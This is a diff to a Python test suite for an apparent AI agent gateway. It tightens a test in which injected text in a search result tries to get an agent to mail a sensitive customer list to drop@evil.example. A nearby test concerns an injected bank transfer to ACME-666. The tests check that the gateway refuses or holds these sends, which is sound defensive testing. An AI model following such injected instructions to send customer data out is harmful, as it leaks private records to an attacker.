@@ -198,11 +198,14 @@ def test_f02_injected_instruction_cannot_extend_authority(env, issuer: Issuer) -
     assert not received(bank, "transfer", memo=memo) and not received(bank, "transfer", to="ACME-666")
 
 
-def test_f03_read_customers_then_mail_them_out_is_held_and_refused(env, issuer: Issuer) -> None:
+def test_f03_read_customers_then_mail_them_out_is_refused(env, issuer: Issuer) -> None:
     """Composition: read (allowed) + send (allowed on its own, with a person)
     = exfiltration. The search result is untrusted and comes back wrapped as
-    data; the customer list marks the session sensitive; the mail to the
-    attacker is held, the person who asked for a summary refuses, and nothing
+    data; the customer list marks the session sensitive. The mail to the
+    address only the injected text named is refused outright, without asking
+    anyone (its recipient came from untrusted content and the user never
+    named it); the same list mailed to an address nobody's content supplied
+    is held, the person who asked for a summary refuses, and nothing
     leaves."""
     gw, docs, _ = env
     agent = Agent(gw, issuer, task_id="summarise-q3")
@@ -213,16 +216,24 @@ def test_f03_read_customers_then_mail_them_out_is_held_and_refused(env, issuer: 
     listed = agent.call(read_tool, read_args).response()
     assert "sensitive" in listed["result"]["_meta"]["io.mandate/labels"], listed
     send_args["body"] = "\n".join(c["text"] for c in listed["result"]["content"])
-    wait = agent.call_in_background(send_tool, send_args)
     op = issuer.operator_token(gw.api_audience, "carol@example.com")
+
+    refused = agent.call(send_tool, send_args).response()["error"]
+    assert refused["data"]["reason"] == "untrusted_argument", refused
+    assert "untrusted-value-in-a-sink" in deciding_policies(gw, refused)
+    mine = [a for a in gw.api("GET", "/api/approvals", op).json()["approvals"] if a["session"] == f"sid:{agent.sid}"]
+    assert not mine, f"a person was asked about a recipient only the injected text named: {mine}"
+    assert not received(docs, "send_mail", to="drop@evil.example")
+
+    wait = agent.call_in_background(send_tool, {**send_args, "to": "partners@example.org"})
     a = pending(gw, op, agent.sid)
-    assert a["tool"] == "docs.send_mail" and a["args"]["to"] == "drop@evil.example", a
+    assert a["tool"] == "docs.send_mail" and a["args"]["to"] == "partners@example.org", a
     assert set(a["taint"]) >= {"untrusted", "sensitive"}, a
     assert "tainted-session-sinks-need-approval" in a["policies"], a
-    assert not received(docs, "send_mail", to="drop@evil.example"), "the held mail reached the mail server"
+    assert not received(docs, "send_mail", to="partners@example.org"), "the held mail reached the mail server"
     decide(gw, op, a, "deny", "I asked for a summary")
     assert wait()["error"]["data"]["reason"] == "approval_denied"
-    assert not received(docs, "send_mail", to="drop@evil.example")
+    assert not received(docs, "send_mail")
 
 
 def test_f04_one_session_cannot_ride_on_another(env, issuer: Issuer) -> None:
